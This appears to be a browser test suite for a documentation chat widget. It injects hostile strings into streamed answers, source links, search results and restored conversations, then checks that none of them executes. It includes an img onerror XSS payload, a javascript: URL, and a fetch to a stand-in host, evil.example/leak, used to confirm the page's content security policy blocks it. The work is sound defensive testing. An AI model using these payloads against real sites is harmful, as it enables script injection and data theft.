// Hostile text on the demo page in a real browser: from a model, in sources, in search results, in what a project says
// of itself, and in a conversation that is read again. No script runs, no request leaves, no dialog opens.
import type { Browser, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
import { attacks } from './attacks.ts'
import { lacksBrowser, openBrowser, openPage } from './browser.ts'
import { type HostilePage, watchHostile } from './hostile-page.ts'
import { chatId, openScriptedChat, restoreToken, type ScriptedChat } from './scripted-chat.ts'

describe.skipIf(lacksBrowser)('hostile text on the demo page', () => {
  let browser: Browser
  let server: ScriptedChat
  let page: Page
  let watch: HostilePage

  beforeAll(async () => {
    browser = await openBrowser()
  }, 60_000)
  afterAll(() => browser?.close())
  afterEach(async () => {
    await page?.context().close()
    await server?.close()
  })

  async function open(chat: object = {}, prepare: (page: Page) => Promise<void> = async () => {}) {
    server = await openScriptedChat(chat)
    page = (await openPage(browser)).page
    watch = await watchHostile(page, new URL(server.url).origin)
    await prepare(page)
    await page.goto(server.url)
    await expect.poll(() => page.textContent('h1')).toBe('Garden docs')
  }

  const shown = () => page.locator('.turn').last()

  test('there are at least sixty attacks, all different', () => {
    expect(new Set(attacks).size).toBe(attacks.length)
    expect(attacks.length).toBeGreaterThanOrEqual(60)
  })

  test('as tokens, final text, and titles and addresses of sources', async () => {
    await open()
    await page.click('#ask')
    for (const [index, attack] of attacks.entries()) {
      await page.fill('#question', `Question ${index}: ${attack}`.slice(0, 1_000))
      await page.keyboard.press('Enter')
      const turn = await server.next()
      const middle = Math.floor(attack.length / 2)
      turn.token(`Before\n\n${attack.slice(0, middle)}`)
      turn.token(`${attack.slice(middle)}\n\n\`\`\`\n\ndrafted`)
      await expect.poll(() => shown().locator('.prose').textContent()).toContain('drafted')
      turn.final(`${attack}\n\n[1] [2] end ${index}`, {
        sources: [
          { title: attack, url: `https://docs.example.org/${index}` },
          { title: `Page ${index}`, url: attack },
          { title: attack, url: `javascript:window.owned='yes'` },
        ],
      })
      await expect.poll(() => shown().locator('.source').count()).toBe(3)
    }
    expect(await page.locator('.turn').count()).toBe(attacks.length)
    await watch.expectHarmless()
    // What looks like a link and is none cannot be pressed; the two that are lead to the documentation.
    for (const href of await page.locator('.prose a').evaluateAll((all) => all.map((each) => each.href))) {
      expect(new URL(href).host).toBe('docs.example.org')
    }
  }, 120_000)

  test('in a conversation that is read again', async () => {
    const messages = attacks.flatMap((attack, index) => [
      { uuid: `q${index}`, role: 'user', content: attack, sources: [], feedback: null },
      {
        ...{ uuid: `a${index}`, role: 'assistant', content: attack, feedback: null, stop_reason: 'stop' },
        sources: [{ title: attack, url: attack }],
      },
    ])
    await open({}, async (fresh) => {
      server.answers.set(`chats/${chatId}/`, () => ({ messages: messages.toReversed() }))
      const kept = JSON.stringify({ chatId, restoreToken })
      await fresh.addInitScript(`sessionStorage.setItem('lectern-chat:docs', ${JSON.stringify(kept)});
        sessionStorage.setItem('lectern-chat:docs:open', 'yes')`)
    })
    await expect.poll(() => page.locator('.turn').count()).toBe(attacks.length)
    expect(await page.locator('.question').allTextContents()).toEqual(attacks)
    await watch.expectHarmless()
  })

  test('in search results', async () => {
    await open()
    server.answers.set('search/', () => ({
      results: attacks.map((attack, index) => ({
        ...{ title: attack, page_title: attack, fragment: attack, content: attack },
        url: index % 2 ? `https://docs.example.org/${index}` : attack,
      })),
    }))
    await page.fill('#query', 'script img onerror javascript')
    await expect.poll(() => page.locator('[role=option]').count()).toBe(attacks.length)
    await watch.expectHarmless()
  })

  test('in what a project says of itself', async () => {
    await open({
      initial_message: attacks.join('\n\n'),
      suggested_questions: attacks.slice(0, 20),
      actions: attacks.map((attack) => ({ name: attack, button_text: attack, url: attack })),
    })
    await page.click('#ask')
    const [first] = attacks
    await expect.poll(() => page.textContent('#chat-welcome')).toContain(first)
    await page.click('#chat-welcome .suggestion')
    const turn = await server.next()
    turn.final('Done.')
    await page.waitForSelector('.thumb-up')
    expect(await page.locator('.turn-foot a').count()).toBe(0)
    await watch.expectHarmless()
  })

  test('and the policy of the page would not have let it out', async () => {
    await open()
    const policy = (await fetch(server.url)).headers.get('content-security-policy') ?? ''
    for (const rule of ["default-src 'none'", "script-src 'self'", "connect-src 'self'", "base-uri 'none'"]) {
      expect(policy).toContain(rule)
    }
    expect(policy).not.toContain('unsafe')
    const outcome = await page.evaluate(`(async () => {
      const left = await fetch('https://evil.example/leak').then(() => 'left', () => 'held')
      let built = 'built'
      try {
        document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.owned=1">')
      } catch {
        built = 'held'
      }
      return [left, built, 'owned' in window]
    })()`)
    expect(outcome).toEqual(['held', 'held', false])
  })
})
